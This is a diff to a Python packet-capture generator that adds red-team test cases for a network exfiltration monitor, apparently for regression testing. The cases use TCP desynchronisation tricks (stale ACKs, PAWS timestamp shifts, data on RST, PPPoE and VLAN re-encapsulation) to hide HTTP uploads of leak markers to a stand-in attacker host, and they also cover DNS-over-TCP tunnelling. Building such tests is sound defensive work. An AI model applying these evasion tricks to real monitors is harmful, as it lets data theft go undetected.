@@ -37,6 +37,7 @@ from gen_replay import (  # noqa: E402
     Capture,
     Tcp,
     l2,
+    mac_pair,
     prand,
     server_hello_flight,
     tls_appdata,
@@ -2045,6 +2046,239 @@ def case_app_udp_smtp_mail(n):
     for i in range(4):
         udp(cap, S1, 42321, MAIL, 25, b"EHLO ws-10.e2m.customs.example\r\n" + leak(n) + prand(n + str(i), 300))
     return cap, {"leak": [leak(n)]}
+
+
+# ------------------------------------------------- the receiver's own checks
+# Round three of the red team: segments a Linux receiver drops (or takes) by
+# checks of its own that the monitor must mirror: an ACK too old for its
+# window (tcp_ack, TCP_TOO_OLD_ACK; Geneva's corrupted ACK, a random one
+# lands there half the time), PAWS marks that bare ACKs, retransmissions and
+# the ClientHello itself move, data on a RST (never read), and frames under
+# another encapsulation than the flow's own (PPPoE, an unknown tag type, an
+# inner tag: the host never delivers them to IP).
+
+CPORT.update({"after_insert_oldack": 42410, "after_insert_oldack_win": 42411,
+              "after_insert_rstdata": 42413, "after_insert_pppoe": 42418,
+              "after_insert_vlan9100": 42419, "after_insert_innertag": 42420})
+
+WIN_C = 64240 << 7  # the client's window as the server scales it (WScale 7 both ways)
+
+
+@case
+def case_after_insert_oldack(n):
+    """The decoy record's ACK 2^30 behind the server's next byte (a corrupted ACK)."""
+    return after_insert(n, lambda t, d, b: t.raw(True, "PA", d, seq=b, ack=(t.sseq - 0x40000000) & 0xFFFFFFFF))
+
+
+@case
+def case_after_insert_oldack_win(n):
+    """The client acknowledges everything, then the decoy record's ACK lies one
+    byte more than the client's largest window (scaled) behind."""
+    def send(t, decoy, base):
+        t.raw(True, "A")
+        t.raw(True, "PA", decoy, seq=base, ack=(t.sseq - WIN_C - 1) & 0xFFFFFFFF)
+    return after_insert(n, send)
+
+
+@case
+def case_oldack_inflight_ok(n):
+    """The server has 100 KB in flight (more than the client's window field,
+    less than the window it scales to) when the client's next record
+    acknowledges none of it: an old ACK the server takes."""
+    cap = Capture()
+    t = tls_established(cap, S1, 42412, E2M, 512, n)
+    ack0 = t.sseq
+    for k in range(70):
+        t.raw(False, "PA", tls_appdata(n + "bulk%d" % k, 1400), gap=100)
+        t.sseq += 1405
+    t.raw(True, "PA", marked_record(passm(n), n + "late", 200), ack=ack0)
+    t.cseq += 205
+    t.raw(True, "A")
+    t.data(False, tls_appdata(n + "tail", 300))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_after_insert_rstdata(n):
+    """The decoy record on a RST|ACK one byte before the server's next (its first
+    byte the last one sent): a challenge ACK, the data never read."""
+    last = tls_appdata(n + "req", 180)[-1:]
+    return after_insert(n, lambda t, d, b: t.raw(True, "RA", last + d, seq=b - 1))
+
+
+@case
+def case_rst_hello_reopen(n):
+    """The e2m ClientHello on a RST|ACK at exactly the server's next byte (it
+    resets the connection unread), then a new SYN on the same ports whose
+    stream goes on from the end of that hello, with the exfil ClientHello."""
+    cap = Capture()
+    t = ETcp(cap, S1, 42414, E2M, 443, isn=514, rtt_us=20000)
+    t.handshake()
+    h1 = hello(n)
+    base = t.cseq
+    t.raw(True, "RA", h1, seq=base)
+    t2 = ETcp(cap, S1, 42414, E2M, 443, isn=base + len(h1) - 1, rtt_us=20000)
+    t2.sseq = 888888
+    t2.handshake()
+    t2.data(True, hello(n + "evil", sni=EVIL, sid=sid32(leak(n))))
+    t2.data(False, server_hello_flight(n))
+    t2.data(True, CCS + tls_appdata(n + "fin", 53))
+    t2.data(True, marked_record(leak(n), n + "req"))
+    t2.data(False, tls_appdata(n + "resp", 400))
+    t2.close()
+    return cap, {"leak": [leak(n)]}
+
+
+def paws_insert(n, cport, isn, move):
+    """Both sides use timestamps; move(t, far) sends what raises the client's
+    PAWS mark to `far` at the server; then the decoy record stamped on the old
+    clock (the server refuses it), then plaintext HTTP stamped past far."""
+    cap = Capture()
+    t = tls_established_ts(cap, cport, isn, n)
+    far = (t.ts[True] + 0x10000000) & 0xFFFFFFFF
+    move(t, far)
+    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    decoy = tls_appdata(n + "decoy", len(http) - 5)
+    base = t.cseq
+    t.raw(True, "PA", decoy, seq=base, options=t.opts(True))
+    t.raw(False, "A", ack=base, options=t.opts(False))
+    t.raw(True, "PA", http, seq=base, options=t.opts(True, tsval=(far + 5) & 0xFFFFFFFF))
+    t.cseq = base + len(http)
+    t.raw(False, "A", options=t.opts(False))
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_after_paws_bareack(n):
+    """PAWS moved by a bare ACK stamped far ahead (tcp_store_ts_recent)."""
+    return paws_insert(n, 42415, 515, lambda t, far: t.raw(True, "A", options=t.opts(True, tsval=far)))
+
+
+@case
+def case_after_paws_retrans(n):
+    """PAWS moved by a retransmission of the last 10 bytes stamped far ahead
+    (tcp_replace_ts_recent)."""
+    last = tls_appdata(n + "req", 180)
+    return paws_insert(n, 42416, 516, lambda t, far: (
+        t.raw(True, "PA", last[-10:], seq=t.cseq - 10, options=t.opts(True, tsval=far)),
+        t.raw(False, "A", options=t.opts(False))))
+
+
+@case
+def case_after_paws_hello(n):
+    """The ClientHello stamped far ahead of the SYN, the session going on from
+    there; the client's next records, after the allow, are a decoy stamped
+    between the two, then plaintext HTTP at the same sequence number."""
+    cap = Capture()
+    t = TsTcp(cap, S1, 42417, E2M, 443, isn=517, rtt_us=20000)
+    t.handshake()
+    syn_ts = t.ts[True]
+    t.ts[True] = (syn_ts + 0x10000000) & 0xFFFFFFFF
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    decoy = CCS + tls_appdata(n + "decoy", len(http) - 5 - len(CCS))
+    base = t.cseq
+    t.raw(True, "PA", decoy, seq=base, options=t.opts(True, tsval=syn_ts + 100))
+    t.raw(True, "PA", http, seq=base, options=t.opts(True))
+    t.cseq = base + len(http)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+def encap_decoy(tags=(), pppoe=False):
+    """Send the decoy in a frame to the same MACs under another encapsulation:
+    tags (TPID, VLAN id) before the IP type, or a PPPoE session."""
+    def send(t, decoy, base):
+        s, d = mac_pair(t.c, t.s)
+        ip = IP(src=t.c, dst=t.s) / TCP(sport=t.cport, dport=t.sport, flags="PA", seq=base, ack=t.sseq,
+                                        window=64240) / Raw(decoy)
+        body = bytes(ip)
+        hdr = bytes.fromhex(d.replace(":", "")) + bytes.fromhex(s.replace(":", ""))
+        if pppoe:
+            frame = hdr + b"\x88\x64" + struct.pack("!BBHH", 0x11, 0, 1, len(body) + 2) + b"\x00\x21" + body
+        else:
+            frame = hdr + b"".join(struct.pack("!HH", tp, vid) for tp, vid in tags) + b"\x08\x00" + body
+        t.cap.emit(Ether(frame), 10000)
+    return send
+
+
+@case
+def case_after_insert_pppoe(n):
+    """The decoy record inside a PPPoE session frame (the host has no session)."""
+    return after_insert(n, encap_decoy(pppoe=True))
+
+
+@case
+def case_after_insert_vlan9100(n):
+    """The decoy record behind a 0x9100 tag with VLAN id 0 (Linux knows no such tag type)."""
+    return after_insert(n, encap_decoy(tags=((0x9100, 0),)))
+
+
+@case
+def case_after_insert_innertag(n):
+    """The decoy record with a priority tag and an inner tag for VLAN 200 (no such VLAN on the host)."""
+    return after_insert(n, encap_decoy(tags=((0x8100, 0), (0x8100, 200))))
+
+
+@case
+def case_prio_tag_ok(n):
+    """A genuine session whose every frame carries a priority tag (802.1Q, VLAN id 0)."""
+    cap = Capture()
+    tls_flow(cap, S1, 42421, E2M, 521, n, send_whole(hello(n)), passm(n), vlans=((0x8100, 0),))
+    return cap, {"pass": [passm(n)]}
+
+
+# DNS over TCP (RFC 7766) to the resolver endpoint: message by message for
+# the flow's whole life, not its first message only (red team F8).
+
+def dns_pair(name, qtype, qid, addr):
+    q = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=name, qtype=qtype)))
+    a = bytes(DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype=qtype),
+                  an=DNSRR(rrname=name, type=qtype, ttl=300, rdata=addr)))
+    return struct.pack("!H", len(q)) + q, struct.pack("!H", len(a)) + a
+
+
+@case
+def case_dns_tcp_after(n):
+    """A genuine query and answer over TCP, then a message of no DNS at all
+    each way (a tunnel behind the first message)."""
+    cap = Capture()
+    t = ETcp(cap, S1, 42422, RESOLVER, 53, isn=522, rtt_us=4000)
+    t.handshake()
+    q, a = dns_pair(E2M_NAME, "A", 0x5252, E2M)
+    t.data(True, q)
+    t.data(False, a)
+    body = leak(n) + prand(n, 600)
+    t.data(True, struct.pack("!H", len(body)) + body)
+    t.data(False, struct.pack("!H", len(body)) + body)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_dns_tcp_ok(n):
+    """Over TCP: an A and an AAAA query in one segment (as glibc sends them),
+    their answers, then a third query whose length comes in a segment of its own."""
+    cap = Capture()
+    t = ETcp(cap, S1, 42423, RESOLVER, 53, isn=523, rtt_us=4000)
+    t.handshake()
+    q1, a1 = dns_pair(E2M_NAME, "A", 0x5353, E2M)
+    q2, a2 = dns_pair(E2M_NAME, "AAAA", 0x5354, E2M6)
+    q3, a3 = dns_pair("api." + E2M_NAME, "A", 0x5355, E2M)
+    t.data(True, q1 + q2)
+    t.data(False, a1)
+    t.data(False, a2)
+    t.data(True, q3[:2])
+    t.data(True, q3[2:])
+    t.data(False, a3[:40])
+    t.data(False, a3[40:])
+    t.close()
+    return cap, {"pass": [q3[2:], a3[40:]]}
 
 
 # ------------------------------------------------------------------- main
